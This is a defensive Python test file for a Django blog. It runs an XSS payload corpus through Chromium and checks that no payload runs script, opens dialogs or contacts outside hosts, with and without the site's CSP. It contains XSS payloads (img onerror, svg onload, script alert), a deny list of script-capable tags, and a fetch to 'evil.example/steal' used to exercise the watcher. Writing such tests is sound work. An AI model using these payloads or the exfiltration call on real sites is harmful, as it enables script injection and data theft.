"""The XSS corpus in a real Chromium: pages holding every payload run nothing and fetch nothing.

One published post carries the whole corpus in its Markdown, and approved comments carry it
again (one payload per comment in the name and body, ten per reply body, the website where a
payload makes a valid URL). Chromium then opens the post, every comment page, a reply form and
the listings that show the post, fires the usual event types at every element of the user
content, sweeps the real mouse over the page, and must see:

- no dialog (alert, confirm, prompt);
- no request to any origin but the live server's (foreign requests are answered locally, so
  the test never reaches the network, and images get a real PNG so `onload` payloads could fire);
- no element, attribute or URL in the user content that could run script;
- no navigation away from the page.

It runs twice: with the site's Content-Security-Policy, as shipped, and with the policy
bypassed, so the sanitiser and the template escaping are shown to hold without that second
line of defence. With the policy on, no script-src violation may be reported either: script
that only the policy stopped is a sanitising bug.
"""

import base64
import math
from html.parser import HTMLParser

import pytest
from django.conf import settings as django_settings

from comments.models import Comment
from tests.support.xss import approved_comment_holding, load_payloads

PAYLOADS = load_payloads()
PER_REPLY = 10
TRANSPARENT_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
# The parts of a page that hold what visitors and authors wrote.
USER_CONTENT = ".post-body, .post-card, .comment-body, .comment-author, .reply-to, h1"

RECORD_CSP_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(
    `${event.effectiveDirective} blocked ${event.blockedURI || "inline"}: ${event.sample}`
  );
});
"""

# What in the browser's own DOM could run script or load something: the parsed result, not
# the server's markup, so anything the browser repairs or re-reads differently shows here.
INSPECT_DOM = """
([selector, origin]) => {
  const problems = [];
  const BAD_TAGS = new Set([
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta",
    "link", "style", "form", "input", "button", "textarea", "select", "svg", "math",
    "template", "video", "audio", "source", "marquee", "details", "dialog", "noscript",
  ]);
  const URL_ATTRIBUTES = new Set(["href", "src", "background", "poster", "data", "action",
                                  "formaction", "xlink:href", "cite", "codebase"]);
  for (const scope of document.querySelectorAll(selector)) {
    for (const el of scope.querySelectorAll("*")) {
      const tag = el.localName;
      if (BAD_TAGS.has(tag)) problems.push(`<${tag}> in ${selector}`);
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith("on") || ["style", "srcdoc"].includes(name)) {
          problems.push(`<${tag} ${name}=${JSON.stringify(attr.value)}>`);
        }
        if (URL_ATTRIBUTES.has(name)) {
          let protocol;
          try { protocol = new URL(attr.value, document.baseURI).protocol; }
          catch (error) { continue; }  // unparsable: the browser does not follow it either
          if (!["http:", "https:", "mailto:"].includes(protocol)) {
            problems.push(`<${tag} ${name}=${JSON.stringify(attr.value)}> is ${protocol}`);
          }
        }
      }
    }
  }
  for (const script of document.scripts) {
    if (script.src.startsWith(origin + "/static/")) continue;
    // Structured data for search engines, which browsers never run: the one kind of inline
    // block a page may hold, and only as a single attribute holding JSON with no "<".
    if (script.type === "application/ld+json" && script.attributes.length === 1
        && !script.textContent.includes("<")) {
      try { JSON.parse(script.textContent); continue; } catch (error) {}
    }
    problems.push(`script ${script.src || script.textContent.slice(0, 80)}`);
  }
  if (document.baseURI !== location.href) problems.push(`base URI ${document.baseURI}`);
  return problems;
}
"""

# Every element of the user content receives the events inline handlers listen for. Clicks
# are cancelled first (capture phase, window) so that links do not navigate away; handlers on
# the elements still run.
FIRE_EVENTS = """
(selector) => {
  const TYPES = [
    "mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "click", "dblclick",
    "auxclick", "contextmenu", "mouseout", "mouseleave", "pointerover", "pointerenter",
    "pointerdown", "pointerup", "pointermove", "pointerleave", "focus", "focusin", "blur",
    "focusout", "keydown", "keypress", "keyup", "input", "change", "select", "wheel",
    "scroll", "copy", "cut", "paste", "drag", "dragstart", "drop", "toggle", "load",
    "error", "animationstart", "animationend", "transitionend", "touchstart", "submit",
  ];
  const cancel = (event) => event.preventDefault();
  for (const type of ["click", "auxclick", "dblclick", "submit"]) {
    window.addEventListener(type, cancel, true);
  }
  let fired = 0;
  for (const scope of document.querySelectorAll(selector)) {
    for (const el of [scope, ...scope.querySelectorAll("*")]) {
      for (const type of TYPES) {
        el.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
        fired += 1;
      }
    }
  }
  for (const type of ["click", "auxclick", "dblclick", "submit"]) {
    window.removeEventListener(type, cancel, true);
  }
  return fired;
}
"""


class Watcher:
    """Records dialogs, foreign requests and CSP violations of one browser context.

    A foreign request the page's Content-Security-Policy blocked never left the browser (it
    still raises a "request" event, then fails with "csp"), so it is kept apart.
    """

    def __init__(self, context, origin):
        self.origin = origin
        self.dialogs: list[str] = []
        self._foreign: list[tuple[object, str]] = []
        self._blocked: set[object] = set()
        context.add_init_script(RECORD_CSP_VIOLATIONS)
        context.route("**/*", self._route)
        context.on("request", self._on_request)
        context.on("requestfailed", self._on_request_failed)
        context.on("page", self.watch)  # popups too

    @property
    def foreign(self) -> list[str]:
        """Requests to any origin but the live server's that the browser sent."""
        return [shown for request, shown in self._foreign if request not in self._blocked]

    @property
    def blocked_by_csp(self) -> list[str]:
        return [shown for request, shown in self._foreign if request in self._blocked]

    def is_ours(self, url: str) -> bool:
        return url.startswith(self.origin + "/")

    def watch(self, page):
        def on_dialog(dialog):
            self.dialogs.append(f"{dialog.type}({dialog.message!r}) on {page.url}")
            dialog.dismiss()

        page.on("dialog", on_dialog)

    def _on_request(self, request):
        url = request.url
        if not (self.is_ours(url) or url.startswith("data:") or url == "about:blank"):
            self._foreign.append((request, f"{request.resource_type} {url}"))

    def _on_request_failed(self, request):
        if request.failure == "csp":
            self._blocked.add(request)

    def _route(self, route):
        # Nothing leaves the machine: foreign images get a real picture (so an `onload`
        # payload would fire), anything else foreign is refused. Both are recorded above.
        if self.is_ours(route.request.url):
            route.continue_()
        elif route.request.resource_type == "image":
            route.fulfill(status=200, content_type="image/png", body=TRANSPARENT_PNG)
        else:
            route.abort()


def sweep_the_mouse(page):
    """Move the real pointer down the whole page, zigzagging, a viewport at a time.

    The events fired by script above reach every element; this adds real hovering (and its
    hit-testing) at a sample of points, cheaply: each move costs a rendered frame.
    """
    height = page.evaluate("document.documentElement.scrollHeight")
    for step, top in enumerate(range(0, height, 600)):
        # "instant": the site's smooth scrolling would make every step wait for an animation.
        page.evaluate(f"window.scrollTo({{top: {top}, behavior: 'instant'}})")
        page.mouse.move(150 + 350 * (step % 3), 120 + 220 * (step % 3))


def visit(page, path, watcher):
    url = watcher.origin + path
    response = page.goto(url, wait_until="networkidle")
    assert response is not None and response.status == 200, path
    problems = page.evaluate(INSPECT_DOM, [USER_CONTENT, watcher.origin])
    assert page.evaluate(FIRE_EVENTS, USER_CONTENT) > 0, f"no user content found on {path}"
    sweep_the_mouse(page)
    page.wait_for_timeout(200)  # setTimeout payloads
    page.wait_for_load_state("networkidle")
    assert page.url == url, f"{path} navigated to {page.url}"
    return problems, page.evaluate("window.__cspViolations")


def foreign_images_the_post_may_show(post):
    """http(s) images the post's sanitised HTML keeps: posts may show them (the CSP does not)."""
    sources = set()

    class Images(HTMLParser):
        def handle_starttag(self, tag, attrs):
            src = dict(attrs).get("src") or ""
            if tag == "img" and src.startswith(("http://", "https://")):
                sources.add(src)

    Images().feed(post.body_html)
    return sources


@pytest.fixture
def hostile_post(transactional_db, make_post):
    post = make_post(
        title='"><img src=x onerror=alert(1)>',
        summary="<script>alert(1)</script>' onmouseover='alert(1)",
        slug="hostile",
        body_markdown="\n\n".join(PAYLOADS),
        tags=["xss", '"><svg onload=alert(1)>'],
    )
    threads = [approved_comment_holding(post, payload) for payload in PAYLOADS]
    for number, start in enumerate(range(0, len(PAYLOADS), PER_REPLY)):
        Comment.objects.create(
            post=post,
            parent=threads[number],  # replies show with their thread, all on the first page
            name=PAYLOADS[start][:100],
            email="replier@example.com",
            body="\n\n".join(PAYLOADS[start : start + PER_REPLY]),
            status=Comment.Status.APPROVED,
        )
    return post, threads


@pytest.mark.parametrize("csp", ["with-csp", "csp-bypassed"])
def test_no_payload_runs_or_fetches_anything_in_chromium(browser, live_server, hostile_post, csp):
    post, threads = hostile_post
    url = post.get_absolute_url()
    pages = math.ceil(len(threads) / django_settings.COMMENTS_PER_PAGE)
    assert pages >= 2
    paths = [
        url,
        *(f"{url}?cpage={number}" for number in range(2, pages + 1)),
        f"{url}?replyto={threads[0].pk}",
        "/",
        "/blog/",
        post.tags.get(slug="xss").get_absolute_url(),
    ]

    context = browser.new_context(base_url=live_server.url, bypass_csp=csp == "csp-bypassed")
    try:
        watcher = Watcher(context, live_server.url)
        page = context.new_page()
        page.set_default_timeout(15_000)
        problems, violations = {}, {}
        for path in paths:
            problems[path], violations[path] = visit(page, path, watcher)
            if path == url:
                shown = page.locator(".comment-body").count()
                assert shown == django_settings.COMMENTS_PER_PAGE + math.ceil(
                    len(PAYLOADS) / PER_REPLY
                )
            elif not path.startswith(url):  # a listing: the hostile post must be on it
                assert page.locator(f'a[href="{url}"]').count() >= 1, path
    finally:
        context.close()

    assert watcher.dialogs == []
    assert problems == {path: [] for path in paths}
    # The post's sanitiser keeps http(s) images (posts may show pictures from elsewhere); the
    # policy blocks them. Nothing else may leave the page, nor even be attempted.
    post_images = {f"image {src}" for src in foreign_images_the_post_may_show(post)}
    if csp == "with-csp":
        assert watcher.foreign == []
        assert set(watcher.blocked_by_csp) <= post_images
        script_violations = {
            path: [v for v in found if v.startswith("script-src")]
            for path, found in violations.items()
        }
        assert script_violations == {path: [] for path in paths}
    else:
        assert set(watcher.foreign) <= post_images
        assert watcher.blocked_by_csp == []


# --- The watcher itself -----------------------------------------------------------------------


def test_the_watcher_catches_dialogs_foreign_requests_and_handlers(browser, live_server):
    """On pages built for it, each kind of failure the test above looks for is recorded."""
    context = browser.new_context(base_url=live_server.url)
    try:
        watcher = Watcher(context, live_server.url)
        page = context.new_page()
        page.set_default_timeout(15_000)

        page.goto("about:blank")
        page.evaluate("alert(1)")
        assert len(watcher.dialogs) == 1 and watcher.dialogs[0].startswith("alert('1')")
        page.evaluate("fetch('https://evil.example/steal').catch(() => null)")
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(200)
        assert any("https://evil.example/steal" in request for request in watcher.foreign)

        # A page of the live server's origin with an inline handler and a javascript: link.
        served = {"csp": None}

        def fake_page(route):
            headers = {"Content-Type": "text/html"}
            if served["csp"]:
                headers["Content-Security-Policy"] = served["csp"]
            route.fulfill(
                status=200,
                headers=headers,
                body='<div class="comment-body"><b onmouseover="confirm(2)">x</b>'
                '<a href="javascript:prompt(3)">y</a></div>',
            )

        page.route(f"{live_server.url}/watcher-check/", fake_page)
        problems, violations = visit(page, "/watcher-check/", watcher)
        assert any("onmouseover" in problem for problem in problems)
        assert any("javascript:" in problem for problem in problems)
        assert any(dialog.startswith("confirm('2')") for dialog in watcher.dialogs)

        served["csp"] = "script-src 'self'"
        watcher.dialogs.clear()
        problems, violations = visit(page, "/watcher-check/", watcher)
        assert watcher.dialogs == []  # the policy stopped the handler...
        assert any(v.startswith("script-src") for v in violations)  # ...and said so
    finally:
        context.close()
